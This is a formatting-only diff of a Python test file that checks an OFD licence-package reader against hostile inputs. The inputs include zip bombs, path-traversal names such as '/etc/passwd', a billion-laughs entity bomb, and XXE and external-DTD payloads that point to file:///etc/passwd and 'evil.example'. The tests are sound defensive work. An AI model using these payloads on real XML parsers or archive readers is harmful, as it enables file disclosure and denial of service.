@@ -21,11 +21,17 @@ from elicense.verify.result import Status
 from ._support import MiB, peak_memory, raises_typed
 
 MINIMAL = [
-    ("OFD.xml", b'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" '
-                b'Version="1.1" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>'
-                b"</ofd:DocBody></ofd:OFD>"),
-    ("Doc_0/Document.xml", b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages>'
-                           b'<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>'),
+    (
+        "OFD.xml",
+        b'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" '
+        b'Version="1.1" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>'
+        b"</ofd:DocBody></ofd:OFD>",
+    ),
+    (
+        "Doc_0/Document.xml",
+        b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages>'
+        b'<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>',
+    ),
     ("Doc_0/Pages/Page_0/Content.xml", b'<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"/>'),
 ]
 
@@ -60,7 +66,7 @@ def test_attack_ofd_lying_size_headers() -> None:
     info = zipfile.ZipFile(io.BytesIO(bytes(bomb))).infolist()[0]
     # patch the uncompressed size in the central directory to 10 bytes
     cd = bomb.rfind(b"PK\x01\x02")
-    bomb[cd + 24:cd + 28] = (10).to_bytes(4, "little")
+    bomb[cd + 24 : cd + 28] = (10).to_bytes(4, "little")
     assert info.file_size == 80 * MiB
     assert isinstance(raises_typed(lambda: read_package(bytes(bomb))), (OfdLimitError, OfdFormatError))
 
@@ -76,8 +82,19 @@ def test_attack_ofd_oversized_file(monkeypatch: pytest.MonkeyPatch) -> None:
     assert isinstance(raises_typed(lambda: read_package(_zip([*MINIMAL, ("x", b"a" * 2000)], 0))), OfdLimitError)
 
 
-@pytest.mark.parametrize("name", ["../evil.xml", "Doc_0/../../evil.xml", "/etc/passwd", "Doc_0\\..\\x.xml",
-                                  "C:/x.xml", "Doc_0//x.xml", "./OFD.xml", "Doc_0/\x01.xml"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../evil.xml",
+        "Doc_0/../../evil.xml",
+        "/etc/passwd",
+        "Doc_0\\..\\x.xml",
+        "C:/x.xml",
+        "Doc_0//x.xml",
+        "./OFD.xml",
+        "Doc_0/\x01.xml",
+    ],
+)
 def test_attack_ofd_names_escaping_the_package(name: str) -> None:
     data = _zip([*MINIMAL, (name, b"x")])
     exc = raises_typed(lambda: read_package(data))
@@ -121,19 +138,24 @@ def test_attack_ofd_encrypted_entry() -> None:
     assert isinstance(raises_typed(lambda: read_package(bytes(data))), OfdFormatError)
 
 
-LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
-                     for i in range(1, 10))
-          + b']><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&lol9;</ofd:OFD>')
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
+    + b']><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&lol9;</ofd:OFD>'
+)
 
 
-@pytest.mark.parametrize("xml", [
-    LAUGHS,
-    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
-    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
-    b'<?xml version="1.0"?><!--' + b"pad" * 3000 + b'--><!DOCTYPE x [<!ENTITY e "boom">]><x>&e;</x>',
-    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>',
-], ids=["billion-laughs", "external-entity", "external-dtd", "doctype-after-long-comment", "parameter-entity"])
+@pytest.mark.parametrize(
+    "xml",
+    [
+        LAUGHS,
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
+        b'<?xml version="1.0"?><!--' + b"pad" * 3000 + b'--><!DOCTYPE x [<!ENTITY e "boom">]><x>&e;</x>',
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>',
+    ],
+    ids=["billion-laughs", "external-entity", "external-dtd", "doctype-after-long-comment", "parameter-entity"],
+)
 def test_attack_ofd_xml_entities_and_external_references(xml: bytes) -> None:
     with peak_memory() as peak:
         exc = raises_typed(lambda: parse_xml(xml, "OFD.xml"))
@@ -154,14 +176,27 @@ def test_attack_ofd_huge_xml_part(monkeypatch: pytest.MonkeyPatch) -> None:
 
 def test_attack_ofd_reference_outside_package_in_signature(tmp_path: Any) -> None:
     """A Reference/BaseLoc that points outside the package is refused, never read from disk."""
-    sig = (b'<ofd:Signature xmlns:ofd="http://www.ofdspec.org/2016"><ofd:SignedInfo><ofd:References CheckMethod="SM3">'
-           b'<ofd:Reference FileRef="/../../etc/passwd"><ofd:CheckValue>AA==</ofd:CheckValue></ofd:Reference>'
-           b"</ofd:References></ofd:SignedInfo><ofd:SignedValue>v.dat</ofd:SignedValue></ofd:Signature>")
-    ofd_xml = MINIMAL[0][1].replace(b"</ofd:DocBody>", b"<ofd:Signatures>S/Signatures.xml</ofd:Signatures></ofd:DocBody>")
-    data = write_package([("OFD.xml", ofd_xml), *MINIMAL[1:], ("S/Signatures.xml",
-                          b'<ofd:Signatures xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Signature ID="1" '
-                          b'BaseLoc="/S/0/Signature.xml"/></ofd:Signatures>'), ("S/0/Signature.xml", sig),
-                          ("S/0/v.dat", b"\x30\x00")])
+    sig = (
+        b'<ofd:Signature xmlns:ofd="http://www.ofdspec.org/2016"><ofd:SignedInfo><ofd:References CheckMethod="SM3">'
+        b'<ofd:Reference FileRef="/../../etc/passwd"><ofd:CheckValue>AA==</ofd:CheckValue></ofd:Reference>'
+        b"</ofd:References></ofd:SignedInfo><ofd:SignedValue>v.dat</ofd:SignedValue></ofd:Signature>"
+    )
+    ofd_xml = MINIMAL[0][1].replace(
+        b"</ofd:DocBody>", b"<ofd:Signatures>S/Signatures.xml</ofd:Signatures></ofd:DocBody>"
+    )
+    data = write_package(
+        [
+            ("OFD.xml", ofd_xml),
+            *MINIMAL[1:],
+            (
+                "S/Signatures.xml",
+                b'<ofd:Signatures xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Signature ID="1" '
+                b'BaseLoc="/S/0/Signature.xml"/></ofd:Signatures>',
+            ),
+            ("S/0/Signature.xml", sig),
+            ("S/0/v.dat", b"\x30\x00"),
+        ]
+    )
     _checked_invalid(data, "ofd_malformed")
 
 
@@ -169,9 +204,19 @@ def test_attack_ofd_too_many_signatures() -> None:
     from elicense.ofd import verify
 
     entries = "".join(f'<ofd:Signature ID="{i}" BaseLoc="/S/x.xml"/>' for i in range(verify.MAX_SIGNATURES + 1))
-    ofd_xml = MINIMAL[0][1].replace(b"</ofd:DocBody>", b"<ofd:Signatures>S/Signatures.xml</ofd:Signatures></ofd:DocBody>")
-    data = write_package([("OFD.xml", ofd_xml), *MINIMAL[1:], ("S/Signatures.xml",
-                          f'<ofd:Signatures xmlns:ofd="http://www.ofdspec.org/2016">{entries}</ofd:Signatures>'.encode())])
+    ofd_xml = MINIMAL[0][1].replace(
+        b"</ofd:DocBody>", b"<ofd:Signatures>S/Signatures.xml</ofd:Signatures></ofd:DocBody>"
+    )
+    data = write_package(
+        [
+            ("OFD.xml", ofd_xml),
+            *MINIMAL[1:],
+            (
+                "S/Signatures.xml",
+                f'<ofd:Signatures xmlns:ofd="http://www.ofdspec.org/2016">{entries}</ofd:Signatures>'.encode(),
+            ),
+        ]
+    )
     _checked_invalid(data, "ofd_too_large")
 
 
@@ -188,8 +233,9 @@ def test_attack_ofd_mutations_of_a_sealed_licence(tmp_path_factory: pytest.TempP
     from elicense.ofd.package import OfdError
     from elicense.verify import Verifier
 
-    world = build_demo(tmp_path_factory.mktemp("sm2fuzz"), now=NOW, seed=SEED, images=False, pdf=False,
-                       algorithm=Algorithm.SM2)
+    world = build_demo(
+        tmp_path_factory.mktemp("sm2fuzz"), now=NOW, seed=SEED, images=False, pdf=False, algorithm=Algorithm.SM2
+    )
     verifier = Verifier.from_trust_file(world.trust_file, algorithms=[Algorithm.SM2])
     data = issue_ofd(world.home, world.issued["driving-licence-nanjing"])
     assert verifier.verify_ofd(data, at=NOW).status is Status.VALID
@@ -202,7 +248,7 @@ def test_attack_ofd_mutations_of_a_sealed_licence(tmp_path_factory: pytest.TempP
             for _ in range(rng.randint(1, 8)):
                 blob[rng.randrange(len(blob))] ^= 1 << rng.randrange(8)
         elif kind == 1:
-            del blob[rng.randrange(len(blob)):]
+            del blob[rng.randrange(len(blob)) :]
         elif kind == 2:
             at = rng.randrange(len(blob))
             blob[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
